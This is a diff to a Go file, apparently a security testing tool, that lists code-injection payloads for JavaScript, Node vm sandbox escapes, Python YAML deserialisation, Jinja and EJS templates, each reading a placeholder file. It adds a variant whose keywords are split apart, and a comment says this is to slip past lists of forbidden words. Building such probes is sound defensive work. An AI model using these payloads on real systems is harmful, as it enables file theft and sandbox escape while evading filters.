@@ -17,9 +17,10 @@ const (
 	javaScript = `import("fs").then(f=>f.readFileSync("@"))`
 	// machine is for those who take a context of its own for a wall: what is handed into it
 	// leads out.
-	// spelled, and that of Python and of Jinja below, have no word in them that a list of forbidden ones may have.
-	spelled = `globalThis["pro"+"cess"]["getBuiltin"+"Module"]("f"+"s")["read"+"FileSync"]("@")`
 	machine = `(p=>p.getBuiltinModule?p.getBuiltinModule("fs"):p.mainModule.require("fs"))(this.constructor.constructor("return process")()).readFileSync("@")`
+	// spelled, escaped, and that of Python and of Jinja below, have no word in them that a list of forbidden ones may have.
+	spelled = `globalThis["pro"+"cess"]["getBuiltin"+"Module"]("f"+"s")["read"+"FileSync"]("@")`
+	escaped = `this.constructor.constructor("return pro"+"cess")()["getBuiltin"+"Module"]("f"+"s")["read"+"FileSync"]("@")`
 )
 
 // codeForms are the ways to write an expression into a value.
@@ -47,6 +48,7 @@ var codeForms = []form{
 	evaluated("as an expression of JavaScript for a context of its own", machine),
 	evaluated("as YAML of Python", `!!python/object/apply:builtins.open ["@"]`),
 	evaluated("as an expression of JavaScript with its words in parts", spelled),
+	evaluated("as an expression of JavaScript for a context of its own, with its words in parts", escaped),
 	evaluated("as an expression of Python with its words in parts", `getattr(getattr(print,"_"+"_self_"+"_"),"op"+"en")("@")`),
 	evaluated("in a template of Jinja with its words in codes", `{{ (cycler|attr("\x5f\x5finit\x5f\x5f")|attr("\x5f\x5fglobals\x5f\x5f")).os.open("@",0) }}`),
 	evaluated("in a template of EJS", `<%= process.getBuiltinModule("fs").readFileSync("@") %>`),
